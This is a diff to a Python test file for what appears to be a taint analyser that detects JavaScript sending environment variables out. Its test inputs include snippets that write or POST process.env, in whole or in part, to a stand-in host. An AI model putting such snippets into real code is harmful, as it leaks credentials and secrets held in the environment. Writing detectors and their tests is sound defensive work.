@@ -50,7 +50,7 @@ LONG = "a" * 200
         ),
         (
             "const q = require('https').request(o); q.write(JSON.stringify(process.env))",
-            (N, "http.ClientRequest.write", {Taint.ENVIRONMENT}),
+            (N, "http.ClientRequest.write", {Taint.ENVIRONMENT, Taint.WHOLE_ENVIRONMENT}),
         ),
         ("fetch(u, {method: 'POST', body: process.env.SETTING})", (N, "fetch", {Taint.ENVIRONMENT})),
         ("fetch('https://a.invalid/?' + process.env.SETTING)", (N, "fetch", {Taint.ENVIRONMENT})),
@@ -117,3 +117,22 @@ def test_the_origin_is_the_line_of_the_first_source() -> None:
     [flow] = facts("const a = await fetch(u);\nconst b = a + '';\neval(b)").flows
 
     assert (3, 1) == (flow.line, flow.origin_line)
+
+
+@pytest.mark.parametrize(
+    ("before", "data", "whole"),
+    [
+        ("", "JSON.stringify(process.env)", True),
+        ("", "JSON.stringify({...process.env})", True),
+        ("const e = process.env;", "Object.entries(e).map(x => x.join('=')).join()", True),
+        ("", "process.env.SAMPLE_KEY", False),
+        ("", "process.env[name]", False),
+        ("const e = process.env;", "JSON.stringify({t: e.SAMPLE_KEY})", False),
+        ("const {SAMPLE_KEY} = process.env;", "SAMPLE_KEY", False),
+    ],
+)
+def test_all_variables_together_are_told_apart_from_one_of_them(before: str, data: str, whole: bool) -> None:
+    source = f"{before}function f(name) {{ fetch('https://a.invalid', {{method: 'POST', body: {data}}}); }}"
+    ((_, _, taints, *_),) = flows(source)
+    assert Taint.ENVIRONMENT in taints
+    assert whole == (Taint.WHOLE_ENVIRONMENT in taints)
